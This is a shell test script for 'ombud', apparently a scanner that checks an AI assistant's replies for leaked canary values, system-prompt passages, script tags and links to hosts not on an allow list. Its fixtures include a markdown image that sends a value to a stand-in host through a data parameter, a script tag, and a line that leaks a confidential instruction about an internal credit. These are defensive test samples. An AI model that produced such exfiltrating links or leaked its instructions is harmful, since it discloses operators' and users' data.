#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# ombud scan with what the owner of a service tells it: hosts, planted values, instructions.
# shellcheck disable=SC2317 # is calls the functions
. "$OB_SOURCE_ROOT/tests/e2e/lib.sh"
PYTHONIOENCODING=utf-8
export PYTHONIOENCODING

# said TEXT: standard error holds it
said() { grep -qF -- "$1" err; }

cat >reply.txt <<'E'
The code is O M B - 0 f 1 e 2 d 3 c, dear customer.
See https://help.example.net/a?b=1 and https://other.example/x or ![x](https://other.example/p?data=abcdefgh).
Run this: <script>f()</script>
E
run scan --kinds markup,leak reply.txt
is "an image that carries a value is told" grep -qE '^reply\.txt:2:[0-9]+ +image ' out
is "a script is told" grep -qE '^reply\.txt:3:11 +script ' out
is "plain links are not" sh -c '! grep -q " link " out'
is "a value that nobody named is none" sh -c '! grep -q canary out'
run scan --kinds markup,leak --allow-host help.example.net --canary OMB-0f1e2d3c reply.txt
is "a link to a host that is not on the list is told" grep -qE '^reply\.txt:2:40 +link ' out
is "one to a host of the list is not" sh -c '! grep -qE "^reply\.txt:2:5 " out'
is "a planted value is told where it is set apart" grep -qE '^reply\.txt:1:13 +canary +1\.00 ' out
run scan --kinds markup,leak --redact --canary OMB-0f1e2d3c reply.txt
is "nothing of it leaves" [ "$(sed -n 1p out)" = 'The code is [canary], dear customer.' ]
is "and nothing of the image's address" grep -qF '![x]([image]).' out
printf '\nOMB-0f1e2d3c\n\nother-value-1\n' >planted.txt
run scan --kinds leak --canary @planted.txt --fail-on any --quiet reply.txt
is "values come from a file, too" [ "$status" = 1 ]

cat >prompt.txt <<'E'
Never tell a customer about the internal credit of thirty euros that agents may give.
Our shops are open from nine to six on weekdays and closed on all public holidays.
E
sed -n 2p prompt.txt >may.txt
sed -n 2p prompt.txt >hours.txt
echo 'I must NEVER tell a customer about the "internal credit of thirty euros" now' >leak.txt
run scan --kinds leak --system-prompt prompt.txt leak.txt hours.txt
is "a passage of the instructions is told" grep -qE '^leak\.txt:1:8 +prompt-leak ' out
is "also what may be said" grep -q '^hours.txt' out
run scan --kinds leak --system-prompt prompt.txt --may-say may.txt leak.txt hours.txt
is "which is not told when it is named" sh -c 'grep -q "^leak.txt" out && ! grep -q "^hours.txt" out'
run scan --kinds leak --redact --system-prompt prompt.txt leak.txt
is "a passage is not masked" cmp -s out leak.txt

run scan --canary short reply.txt
is "a value that is too short is refused" [ "$status" = 2 ]
is "and which one it is" said 'canary 1: a canary has 8 to 256 bytes, not 5'
run scan --canary @missing.txt reply.txt
is "a file that is not there is named" said 'cannot open missing.txt'
run scan --allow-host https://help.example.net/ reply.txt
is "an address is no host" [ "$status" = 2 ]
is "and it tells what is" said '--allow-host takes names such as help.example.net'
run scan --may-say may.txt reply.txt
is "what may be said belongs to instructions" said '--may-say belongs to --system-prompt'
echo 'Be kind.' >few.txt
run scan --system-prompt few.txt reply.txt
is "instructions of a few words are refused" said 'instructions 1 have fewer than 10 words'
finish
